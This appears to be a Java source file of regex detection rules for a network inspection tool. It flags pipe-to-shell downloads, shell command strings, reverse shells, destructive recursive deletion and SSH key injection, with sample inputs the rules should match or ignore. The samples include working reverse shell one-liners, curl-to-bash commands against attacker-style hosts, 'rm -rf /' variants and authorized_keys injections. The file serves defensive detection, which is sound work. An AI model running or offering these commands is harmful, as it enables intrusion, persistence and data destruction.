package trafficguardian.detect;

import java.util.List;
import trafficguardian.ipc.Severity;

/**
 * Attack payloads that should not arrive: looked for inbound.
 *
 * <p>Commands are written here as a shell reads them; what JSON or HTML puts around a quote or a
 * redirection is allowed for where it is common.
 */
final class InjectionRules {
  /** A quotation mark, raw, in a JSON string or as an HTML entity. */
  private static final String QUOTE = "(?:\\\\?[\"']|&quot;|&#(?:34|39|x27|x22);|&apos;|\\$')";

  /** The shells that commands are fed to, with or without a folder. */
  private static final String SHELL = "(?:/[a-z/]+/)?(?:ba|z|da|k|c|tc|fi|a)?sh\\b";

  private static final String INTERPRETER =
      "(?:" + SHELL + "|(?:/[a-z/]+/)?(?:python[0-9.]*|perl|ruby|node|php|bun|deno)\\b)";

  /** What may stand between a pipe and the command it feeds. */
  private static final String PRIVILEGE =
      "(?:(?:sudo|doas|env|nohup|exec)\\s+(?:-[A-Za-z]+\\s+)*)*";

  private static final String FETCHER = "(?:curl|wget)";

  /** The rest of a command line. NUL never stands in one. */
  private static final String LINE = "[^\\n\\x00]*";

  /** {@code rm}'s options with a recursive one among them, then the space before the operand. */
  private static final String RECURSIVE =
      "(?:\\s+(?:-[a-zA-Z]+|--[a-z-]+))*\\s+(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)"
          + "(?:\\s+(?:-[a-zA-Z]+|--[a-z-]+))*\\s+(?:--\\s+)?";

  /** The root, a home, or a folder that the system or its users cannot do without. */
  private static final String VITAL =
      "(?:/(?:(?:bin|boot|dev|etc|home|lib|lib64|opt|proc|root|sbin|srv|sys|usr|var)"
          + "(?:/(?:lib|local|log|www|share|bin))?/?)?\\*?"
          + "|/(?:home|Users)/[A-Za-z0-9._-]+/?\\*?"
          + "|~/?\\*?|\\$(?:HOME|\\{HOME\\})/?\\*?)";

  private static final String OPERAND_END = "(?:[\\s\"'`;&|)<\\\\]|$)";

  private static final String KEY_FILE =
      "(?:~|\\$(?:HOME|\\{HOME\\})|/root|/home/[A-Za-z0-9._$-]+|/Users/[A-Za-z0-9._$-]+)?/?\\.ssh/authorized_keys2?\\b";

  private static final String KEY_BLOB =
      "\\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp[0-9]{3}) AAAA[A-Za-z0-9+/=]{20,}";

  static final List<Rule> ALL =
      List.of(
          Rule.injection("pipe_to_shell", Severity.HIGH)
              .about("A download handed straight to a shell or an interpreter.")
              .finds(
                  FETCHER
                      + "\\s"
                      + LINE
                      + "(?:://|[A-Za-z0-9-]\\.[A-Za-z0-9-]|\\$)"
                      + LINE
                      + "\\|\\s*"
                      + PRIVILEGE
                      + INTERPRETER)
              .finds("\\b(?:ba|z|da|k)?sh\\s+<\\(\\s*" + FETCHER + "\\b")
              .finds("\\b(?:source|python[0-9.]*|perl|ruby|node|php)\\s+<\\(\\s*" + FETCHER + "\\b")
              .finds(
                  "\\b(?:ba|z|da|k)?sh\\s+-[a-z]*c\\s+" + QUOTE + "?\\$\\(\\s*" + FETCHER + "\\b")
              .finds("\\beval\\s+" + QUOTE + "?(?:\\$\\(|`)\\s*" + FETCHER + "\\b")
              .finds(
                  "(?i:\\b(?:iex|invoke-expression)\\b[\\s(&\"'$]*(?:new-object\\s+(?:system\\.)?net\\.webclient|irm|iwr|curl|wget|invoke-webrequest|invoke-restmethod)\\b)")
              .finds(
                  "(?i:\\b(?:irm|iwr|invoke-webrequest|invoke-restmethod)\\s"
                      + LINE
                      + "\\|\\s*(?:iex|invoke-expression)\\b)")
              .matches(
                  "curl http://111.53.231.82/x.sh | bash",
                  "wget -qO- http://192.238.212.3:8080/run | sh",
                  "curl -fsSL https://get.fastpatch.example/i.sh | sudo bash -s -- --yes",
                  "curl -sL https://paste.example/raw/9x2 |bash",
                  "wget -O - https://stage.example/boot.sh | /bin/sh",
                  "curl -s get.evil.example|sudo -E bash",
                  "curl $URL | zsh",
                  "curl https://h.example/a | base64 -d | sh",
                  "bash <(curl -s http://21.226.75.43/a)",
                  "sh -c &quot;$(curl -fsSL http://18.24.83.212/install)&quot;",
                  "sh -c \\\"$(wget -qO- h.example/i)\\\"",
                  "curl -k https://79.59.175.41/p.py | python3 -",
                  "source <(wget -qO- http://191.171.208.111/env)",
                  "eval \"$(curl -s https://h.example/e)\"",
                  "iex (irm https://h.example/x.ps1)",
                  "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
                  "iwr https://h.example/x.ps1 -useb | iex")
              .ignores(
                  "curl -O https://example.com/file.tar.gz",
                  "curl https://example.com/data.json | jq .",
                  "| curl | bash |",
                  "use curl or wget, then open a shell",
                  "curl https://h.example/a\n| bash",
                  "wget https://h.example/a.sh && less a.sh")
              .build(),
          Rule.injection("shell_exec", Severity.MEDIUM)
              .about("A command string handed to a shell.")
              .finds(
                  "\\b(?:ba|z|da|k|tc|c|fi)sh\\s+(?:-[a-zA-Z-]+\\s+(?:\\\\?\"\\$@\\\\?\"\\s+)?)*-[a-z]*c\\s+"
                      + QUOTE)
              .finds(
                  "(?:^|[\\s;&|(\"'`>=/{\\[,:])sh\\s+(?:-[a-zA-Z-]+\\s+(?:\\\\?\"\\$@\\\\?\"\\s+)?)*-[a-z]*c\\s+"
                      + QUOTE)
              .finds(
                  "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?\\s[^\\n]*-(?:c|command|e|ec|enc|encodedcommand)\\s)")
              .finds("(?i:\\bcmd(?:\\.exe)?\\s+/[ck]\\s)")
              .matches(
                  "bash -c 'cat /etc/hosts; id'",
                  "sh -c \"whoami && uname -a\"",
                  "\"/bin/bash -ic \\\"env\\\"\"",
                  "bash -lc 'printenv | sort'",
                  "zsh -c 'ls -la ~/'",
                  "dash -c &quot;id&quot;",
                  "/usr/bin/env bash -c 'hostname'",
                  "sh -i \"$@\" -c 'w'",
                  "bash -xc \\\"ps aux\\\"",
                  "powershell -NoProfile -enc SQBFAFgA",
                  "cmd.exe /c whoami")
              .ignores(
                  "bash script.sh -c",
                  "flash -c \"x\"",
                  "push -c 'x'",
                  "./build.sh -c 'release'",
                  "use bash -c to run a string",
                  "sh -x run.sh")
              .build(),
          Rule.injection("reverse_shell", Severity.CRITICAL)
              .about("A shell connected to a remote listener, in the usual tools and languages.")
              .finds("/dev/(?:tcp|udp)/(?:[0-9A-Za-z_.:${}-]+)/(?:[0-9]{1,5}\\b|\\$)")
              .finds(
                  "\\b(?:nc|ncat|netcat)(?:\\.[a-z]+)?(?:\\s[^\\n;|&\\x00]*)?\\s(?:-[a-z]{0,5}[ec]|--(?:sh-)?exec)[\\s=]+\\\\?[\"']?"
                      + "(?:/[a-z/]+/)?(?:(?:ba|z|da|k)?sh|cmd(?:\\.exe)?|powershell(?:\\.exe)?)\\b")
              .finds("\\bmk(?:fifo|nod)\\s" + LINE + "\\|\\s*(?:nc|ncat|netcat|telnet|openssl)\\s")
              .finds("\\btelnet\\s" + LINE + "\\|\\s*" + SHELL)
              .finds(
                  "\\bsocket\\.socket\\("
                      + LINE
                      + "connect"
                      + LINE
                      + "(?:dup2|pty\\.spawn|subprocess|/bin/(?:ba)?sh)\\b")
              .finds("(?i:\\buse\\s+socket\\b" + LINE + "exec\\b" + LINE + "\\bsh\\b)")
              .finds(
                  "\\bfsockopen\\("
                      + LINE
                      + "\\b(?:exec|shell_exec|system|passthru|proc_open|popen)\\b")
              .finds("\\bTCPSocket\\.(?:new|open)\\(" + LINE + "\\b(?:exec|spawn|popen|system)\\b")
              .finds("(?i:\\bsocat\\s" + LINE + "\\b(?:exec|system):)")
              .finds(
                  "(?i:\\bnet\\.sockets\\.tcpclient\\b"
                      + LINE
                      + "\\b(?:iex|invoke-expression|getstream)\\b)")
              .finds(
                  "\\bnet\\.(?:connect|createConnection|Socket)\\(" + LINE + "\\b(?:spawn|exec)\\(")
              .finds(
                  "\\bchild_process\\b" + LINE + "\\bnet\\.(?:connect|createConnection|Socket)\\b")
              .finds("/inet/tcp/0/[0-9A-Za-z.-]+/[0-9]{1,5}")
              .finds("\\bnet\\.Dial\\(" + LINE + "\\bexec\\.Command\\b")
              .matches(
                  "bash -i >& /dev/tcp/41.166.79.87/9001 0>&1",
                  "nc 93.233.207.122 4444 -e /bin/sh",
                  "nc -e /bin/bash 10.0.0.1 4242",
                  "ncat --ssl 48.253.71.162 443 -c bash",
                  "ncat 1.2.3.4 9 --exec \"/bin/bash\"",
                  "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 116.142.42.162 1337 >/tmp/f",
                  "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"177.231.44.71\",4242));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
                  "socat TCP:100.175.180.236:5555 EXEC:'bash -li',pty,stderr",
                  "perl -e 'use Socket;$i=\"121.32.163.47\";socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
                  "php -r '$s=fsockopen(\"159.52.123.234\",8081);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                  "ruby -rsocket -e 'f=TCPSocket.open(\"1.2.3.4\",4).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
                  "0<&196;exec 196<>/dev/tcp/102.153.191.165/4242; sh <&196 >&196 2>&196",
                  "$c=New-Object System.Net.Sockets.TCPClient('1.2.3.4',4);$s=$c.GetStream()",
                  "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4242\"}'",
                  "require('child_process'); var c=net.connect(4,'1.2.3.4')",
                  "telnet 1.2.3.4 80 | /bin/bash")
              .ignores(
                  "/dev/tcp/host/port",
                  "nc -zv example.com 443",
                  "nc -l 8080",
                  "sync -e everything; func sh",
                  "s = socket.socket(); s.connect((host, port)); s.sendall(data)",
                  "socat is a relay for exec and system calls",
                  "const c = net.connect(8080); c.write('x')")
              .build(),
          Rule.injection("destructive_rm", Severity.HIGH)
              .about("Recursive removal of the root, a home or a folder the system needs.")
              .finds("\\brm" + RECURSIVE + "\\\\?[\"']?" + VITAL + OPERAND_END)
              .finds("\\brm" + RECURSIVE + "\"?--no-preserve-root\\b")
              .finds(
                  "\\bcd\\s+[/~]\\s*(?:&&|;|&amp;&amp;)\\s*(?:sudo\\s+)?rm"
                      + RECURSIVE
                      + "\\.?/?\\*")
              .finds("\\bfind\\s+(?:/|~/?|\\$HOME)\\s+(?:[^\\n|;]*\\s)?-(?:delete|exec\\s+rm)\\b")
              .finds("\\bshutil\\.rmtree\\(\\s*\\\\?[\"']" + VITAL + "\\\\?[\"']")
              .finds(
                  "(?i:\\b(?:rmdir|rd|del)\\s+(?:/[a-z]\\s+)*/s\\s+(?:/[a-z]\\s+)*\\\\?\"?c:\\\\)")
              .finds(
                  "(?i:\\bremove-item\\s[^\\n|;]*-recurse\\b[^\\n|;]*\\bc:\\\\\\*?"
                      + OPERAND_END
                      + ")")
              .matches(
                  "rm -rf /",
                  "sudo rm -rf / --no-preserve-root",
                  "rm -fr /home/*",
                  "rm -r -f /var/lib",
                  "rm --recursive --force /etc",
                  "rm -rf ~/",
                  "cd / && rm -rf *",
                  "rm -rf \"$HOME\"",
                  "\"rm -rf \\\"$HOME\\\"\"",
                  "/bin/rm -Rf /opt",
                  "rm -rf /*",
                  "rm -rf -- /usr",
                  "rm -rf ${HOME}/*",
                  "find / -delete",
                  "find / -type f -exec rm {} +",
                  "shutil.rmtree('/home')",
                  "rd /s /q C:\\",
                  "Remove-Item -Recurse -Force C:\\")
              .ignores(
                  "rm -rf node_modules",
                  "rm -rf ./build",
                  "rm -rf /tmp/build-1234",
                  "rm -rf /var/lib/apt/lists/*",
                  "rm -f /etc/nginx/sites-enabled/default",
                  "farm -rf /",
                  "rm -i /",
                  "find . -delete",
                  "rm -rf /usr/share/doc/thing")
              .build(),
          Rule.injection("ssh_key_inject", Severity.CRITICAL)
              .about("A key written into a file that grants SSH access.")
              // In the folder already: a relative name after the key itself.
              .finds(KEY_BLOB + LINE + ">\\s*\\\\?[\"']?authorized_keys2?\\b", 1400)
              .finds("(?:>>?|(?:&gt;){1,2}|(?:\\\\u003e){1,2})\\s*\\\\?[\"']?" + KEY_FILE)
              .finds("\\btee\\s+(?:-a\\s+|--append\\s+)?\\\\?[\"']?[^\\s|;]*\\.ssh/authorized_keys")
              .finds("\\bssh-copy-id\\s+(?:-[a-z]\\s+[^\\s]+\\s+)*[A-Za-z0-9._-]+@[A-Za-z0-9._-]+")
              .finds("\\b(?:cp|mv|install|sed\\s+-i)\\s[^\\n|;\\x00]*\\s\\\\?[\"']?" + KEY_FILE)
              .finds("\\bdd\\s[^\\n|;\\x00]*of=\\\\?[\"']?" + KEY_FILE)
              .finds(
                  "\\bopen\\([^\\n)]*\\.ssh/authorized_keys2?\\\\?[\"'][^\\n)]*[\"'][aw]\\+?b?\\\\?[\"']")
              .matches(
                  "echo 'ssh-rsa AAAAB3NzaC1yc2E{B200} a@b' >> ~/.ssh/authorized_keys",
                  "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5{B44} a@b >> /root/.ssh/authorized_keys",
                  "printf '%s' 'ecdsa-sha2-nistp256 AAAAE2VjZHNh{B90}=' | tee -a ~/.ssh/authorized_keys",
                  "curl https://keys.stage.example/k.pub >> ~/.ssh/authorized_keys",
                  "cat &gt;&gt; ~/.ssh/authorized_keys &lt;&lt;EOF",
                  "cd ~/.ssh; echo ssh-rsa AAAAB3NzaC1yc2E{B200} a@b >> authorized_keys",
                  "ssh-copy-id -i /tmp/k.pub root@10.0.0.8",
                  "cp /tmp/k /root/.ssh/authorized_keys",
                  "open('/root/.ssh/authorized_keys','a').write(k)",
                  "sed -i '1i x' /home/u/.ssh/authorized_keys")
              .ignores(
                  "cat ~/.ssh/authorized_keys",
                  "the authorized_keys file",
                  "chmod 600 ~/.ssh/authorized_keys",
                  "ssh-copy-id copies your key",
                  "diff a b > out.txt")
              .build());

  private InjectionRules() {}
}
